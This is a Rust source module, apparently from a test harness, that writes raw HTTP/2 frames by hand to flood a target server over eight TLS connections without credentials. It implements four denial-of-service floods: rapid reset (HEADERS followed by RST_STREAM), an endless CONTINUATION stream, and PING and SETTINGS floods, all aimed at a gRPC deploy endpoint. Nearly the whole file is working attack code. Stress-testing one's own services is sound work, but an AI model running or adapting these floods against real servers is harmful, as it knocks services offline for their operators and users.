//! Floods of HTTP/2 frames, written byte by byte: no library would send them.

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use super::victim::Victim;

const CONNECTIONS: usize = 8;
const SOURCE: u8 = 2;

/// Frames that are written at a time.
const AT_A_TIME: u64 = 100;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The largest frame that a server has to take unasked.
const FRAME_MAX: usize = 16_384;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

/// What the frames are.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Flood {
    RapidReset,
    Continuation,
    Pings,
    Settings,
}

/// Floods the node over several connections, without a credential.
pub(super) async fn flood(victim: Victim, flood: Flood) {
    let mut connections = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let victim = victim.clone();
        connections.spawn(async move { victim.again(|| one_connection(&victim, flood)).await });
    }
    connections.join_all().await;
}

async fn one_connection(victim: &Victim, flood: Flood) -> Result<()> {
    let stream = victim.tls(SOURCE).await?;
    let (mut reader, mut writer) = tokio::io::split(stream);
    let mut hello = PREFACE.to_vec();
    frame(&mut hello, SETTINGS, 0, 0, &[]);
    writer.write_all(&hello).await?;
    match flood {
        // Answers to pings and settings are not read: they are what the other side has to keep.
        Flood::Pings | Flood::Settings => write_on(victim, flood, &mut writer).await,
        Flood::RapidReset | Flood::Continuation => {
            let mut answers = vec![0; FRAME_MAX];
            let reading = async {
                while reader.read(&mut answers).await? > 0 {}
                Ok(())
            };
            tokio::select! {
                ended = reading => ended,
                ended = write_on(victim, flood, &mut writer) => ended,
            }
        }
    }
}

/// Writes until the other side has closed the connection.
async fn write_on(
    victim: &Victim,
    flood: Flood,
    writer: &mut (impl AsyncWriteExt + Unpin),
) -> Result<()> {
    if flood == Flood::Continuation {
        let mut opening = Vec::new();
        frame(&mut opening, HEADERS, 0, 1, &request());
        writer.write_all(&opening).await?;
    }
    let mut stream = 1;
    loop {
        let mut bytes = Vec::new();
        for _ in 0..AT_A_TIME {
            match flood {
                Flood::RapidReset => {
                    frame(&mut bytes, HEADERS, END_HEADERS, stream, &request());
                    frame(&mut bytes, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                    stream += 2;
                }
                Flood::Continuation => frame(&mut bytes, CONTINUATION, 0, 1, &filler()),
                Flood::Pings => frame(&mut bytes, PING, 0, 0, &[7; 8]),
                Flood::Settings => frame(&mut bytes, SETTINGS, 0, 0, &[]),
            }
        }
        writer.write_all(&bytes).await?;
        victim.count(AT_A_TIME);
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Headers of a gRPC request, without Huffman codes and without additions to the table.
fn request() -> Vec<u8> {
    // POST and https are entries of the static table.
    let mut block = vec![0x83, 0x87];
    indexed_name(&mut block, &[0x01], b"member.internal");
    indexed_name(&mut block, &[0x04], b"/jaco.v1.Deploy/Apply");
    indexed_name(&mut block, &[0x0f, 0x10], b"application/grpc");
    block
}

/// A field whose name is in the static table.
fn indexed_name(block: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    block.extend_from_slice(name);
    block.push(u8::try_from(value.len()).expect("a value is short"));
    block.extend_from_slice(value);
}

/// A frame full of fields that are all the same.
fn filler() -> Vec<u8> {
    let mut block = Vec::new();
    let field = [0x00, 1, b'x', 1, b'y'];
    while block.len() + field.len() <= FRAME_MAX {
        block.extend_from_slice(&field);
    }
    block
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_their_length() {
        let mut bytes = Vec::new();
        frame(&mut bytes, PING, 0, 0, &[7; 8]);
        assert_eq!(bytes, [0, 0, 8, 6, 0, 0, 0, 0, 0, 7, 7, 7, 7, 7, 7, 7, 7]);
        assert!(filler().len() <= FRAME_MAX);
    }
}
